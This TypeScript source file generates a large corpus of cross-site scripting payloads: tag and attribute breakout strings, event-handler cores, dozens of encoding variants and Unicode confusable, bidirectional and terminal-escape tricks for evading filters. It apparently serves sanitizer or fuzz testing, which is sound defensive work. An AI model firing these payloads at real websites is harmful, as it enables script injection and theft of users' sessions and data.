// Payloads that leave the place they are put in, and those that hide what they are.

/** What runs once it stands where markup may stand. */
const cores = ['<img src=x onerror=§>', '<svg onload=§>', '<script>§</script>'];

/** What ends the place that a careless template would put data in. */
const ends = [
  '">',
  "'>",
  '`>',
  '\\">',
  '" x=">',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '}}',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</select>',
  '</iframe>',
  '</pre>',
  '</code></pre>',
  '</details>',
  '</div></div>',
  '</dd></dl>',
  '</body></html>',
  '\n\n',
];

/** Ways out of an attribute that stays one. */
const quotes = ['" ', "' ", '` ', '"/', '" "', "'\t", '"\n', ' '];
const events = ['onfocus=§ autofocus tabindex=0 x=', 'onmouseover=§ x=', 'style=x:url(¤) x=', 'srcdoc=¤ x='];

export const breakouts: readonly string[] = [
  ...ends.flatMap((end) => cores.map((core) => end + core)),
  ...quotes.flatMap((quote) => events.map((event) => `${quote}${event}${quote.trim().slice(0, 1)}`)),
  "';§//",
  '";§//',
  '`;§//',
  "\\';§//",
  '\\u0027;§//',
  '</script><script>§//',
  "'+§+'",
  '"-§-"',
  '${§}',
  '\u2028§//',
  '*/§/*',
  '-->\n§',
];

/** Every character of a text by a rule. */
const each = (text: string, write: (character: string, code: number) => string): string =>
  Array.from(text, (character) => write(character, character.codePointAt(0) ?? 0)).join('');
const hex = (code: number, digits: number): string => code.toString(16).padStart(digits, '0');
const special = (text: string, write: (code: number) => string): string =>
  each(text, (character, code) => (/[<>"'=/]/.test(character) ? write(code) : character));

export const encodings: readonly string[] = cores.flatMap((core) => [
  special(core, (code) => `&#${String(code)};`),
  special(core, (code) => `&#x${hex(code, 2)};`),
  special(core, (code) => `&#x${hex(code, 6)}`),
  core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  core.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  core.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  special(core, (code) => `%${hex(code, 2)}`),
  special(core, (code) => `%25${hex(code, 2)}`),
  special(core, (code) => `%u${hex(code, 4)}`),
  special(core, (code) => `\\u${hex(code, 4)}`),
  special(core, (code) => `\\u{${hex(code, 1)}}`),
  special(core, (code) => `\\x${hex(code, 2)}`),
  special(core, (code) => `\\${code.toString(8)}`),
  special(core, (code) => `\\${hex(code, 6)} `),
  special(core, (code) => String.fromCodePoint(code + 0xfee0)),
  core.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  core.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  core.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  core.replaceAll(' ', '/'),
  core.replaceAll(' ', '\t'),
  core.replaceAll(' ', '\f'),
  core.replaceAll(' ', '\v'),
  core.replace('<', '<\0'),
  core.replace(/^<(.)/, '<$1\0'),
  core.replace('<', '\u0000<'),
  core.replace('<', '\ufeff<'),
  core.replace(/>$/, ''),
  `${core}<!--`,
]);

/** Characters that look or sort like others, or turn a text around. */
export const unicode: readonly string[] = [
  '\u202e<img src=x onerror=§>\u202c',
  '\u2066<img src=x onerror=§>\u2069',
  '\u200f>§=rorreno x=crs gmi<',
  '<\u200bimg src=x onerror=§>',
  '<img\u200b src=x onerror=§>',
  '<img src=x one\u200drror=§>',
  '<img\u00a0src=x\u00a0onerror=§>',
  '<img\u3000src=x onerror=§>',
  '<img\u2028src=x\u2029onerror=§>',
  '<img\u0085src=x onerror=§>',
  '\uff1cimg src=x onerror=§\uff1e',
  '\ufe64img src=x onerror=§\ufe65',
  '\u2039img src=x onerror=§\u203a',
  '\u3008script\u3009§\u3008/script\u3009',
  '<\u0131mg src=x onerror=§>',
  '<\u017fcript>§</\u017fcript>',
  '<\u017fvg onload=§>',
  '<img src=x onerror=\uff1d§>',
  '\ud800<img src=x onerror=§>',
  '<img src=x onerror=§>\udfff',
  '\u0000\u0008<img src=x onerror=§>',
  '\u001b]8;;¤\u0007link\u001b]8;;\u0007',
  '\u001b[2J<img src=x onerror=§>',
  '\u{e003c}img src=x onerror=§\u{e003e}',
  '<i\u0307mg src=x onerror=§>',
  '<img src=x onerror=\u202e§\u202c>',
  '\ufffe<svg onload=§>\uffff',
  'e\u0301\u0301\u0301<svg onload=§>',
];
